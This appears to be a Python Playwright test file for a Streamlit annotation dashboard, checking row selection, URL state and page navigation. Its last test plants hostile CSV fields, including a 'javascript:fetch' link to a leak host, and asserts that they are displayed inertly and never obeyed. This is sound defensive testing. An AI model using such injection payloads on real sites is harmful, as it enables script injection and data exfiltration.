"""Do rows that are selected in a browser lead where they should: to an item, to another page once, and back?"""

from collections.abc import Callable
from pathlib import Path

from tests.browser.conftest import Visit
from tests.browser.test_dashboard import HOSTILE, LEAK

CSV = "item,annotator,label,text\n" + "".join(
    f"i{n:03},{who},{'yes' if (n + place * (n % 4 == 0)) % 3 else 'no'},text {n}\n" for n in range(120) for place, who in enumerate(["ann", "bob", "eve"])
)
LINE = 33  # pixels of a row, the header included


def select(visit: Visit, row: int, table: int = 0) -> None:
    """Clicks the box in front of a row; tables are drawn on a canvas."""
    frame = visit.page.locator('[data-testid="stMain"] [data-testid="stDataFrame"]').nth(table)
    frame.scroll_into_view_if_needed()
    visit.page.wait_for_timeout(500)
    place = frame.bounding_box()
    assert place is not None
    visit.page.mouse.click(place["x"] + 16, place["y"] + LINE * (row + 1) + LINE / 2)
    visit.page.wait_for_timeout(700)  # until the run that this starts has begun
    visit.settled()


def item(visit: Visit) -> str:
    return visit.page.locator('[data-testid="stMain"] h3').first.inner_text()


def test_a_selected_item_is_in_the_url_and_survives_reload(dashboard: Callable, tmp_path: Path) -> None:
    (tmp_path / "study.csv").write_text(CSV)
    visit = dashboard(ASSAY_STUDY=str(tmp_path / "study.csv")).open("Items")
    first = item(visit)
    select(visit, 3)
    fourth = item(visit)
    assert fourth != first
    assert f"items.item={fourth}" in visit.page.url
    visit.page.reload()
    assert item(visit.settled()) == fourth
    visit.page.locator('[data-testid="stPagination"] button').nth(2).click()
    visit.page.wait_for_timeout(700)
    assert item(visit.settled()) != fourth
    select(visit, 1)
    link = visit.page.url.partition("/Items?")[2]
    assert item(dashboard().open(f"Items?{link}")) == item(visit)
    assert visit.errors == []
    assert visit.outside == []


def test_a_row_leads_to_another_page_once_and_again_when_it_is_selected_again(dashboard: Callable, tmp_path: Path) -> None:
    (tmp_path / "study.csv").write_text(CSV)
    visit = dashboard(ASSAY_STUDY=str(tmp_path / "study.csv")).open("Agreement?agreement.part=annotators")
    table = visit.page.locator('[data-testid="stMain"] [data-testid="stDataFrame"]').count() - 1
    for _ in range(2):
        select(visit, 0, table)
        visit.page.wait_for_url("**/Items?**")
        assert "items.annotator=" in visit.page.url
        visit.follow("Agreement")
        visit.page.wait_for_timeout(1_000)
        assert visit.settled().page.url.partition("?")[0].endswith("/Agreement")
    assert visit.errors == []


def test_hostile_names_texts_and_links_are_shown_and_never_obeyed(dashboard: Callable, tmp_path: Path) -> None:
    quoted = '"' + HOSTILE.replace('"', '""')
    link = f"javascript:fetch('http://{LEAK}')"
    lines = [
        f'{quoted} {n}",{quoted} {who}",{quoted} {(n + who * (n % 4 == 0)) % 3}",{quoted}","{link}"\n' for n in range(20) for who in range(3)
    ]  # fmt: skip
    (tmp_path / "hostile.csv").write_text("item,annotator,label,text,link\n" + "".join(lines))
    visit = dashboard(ASSAY_STUDY=str(tmp_path / "hostile.csv")).open("Items")
    select(visit, 2)
    assert "items.item=" in visit.page.url
    inside = visit.page.locator('[data-testid="stApp"]')
    assert inside.locator(f'img[src*="{LEAK}"], a[href*="javascript"], a[href*="evil.example"]').count() == 0
    assert "bold" not in inside.locator("strong").all_inner_texts()
    assert visit.outside == []
    assert visit.errors == []
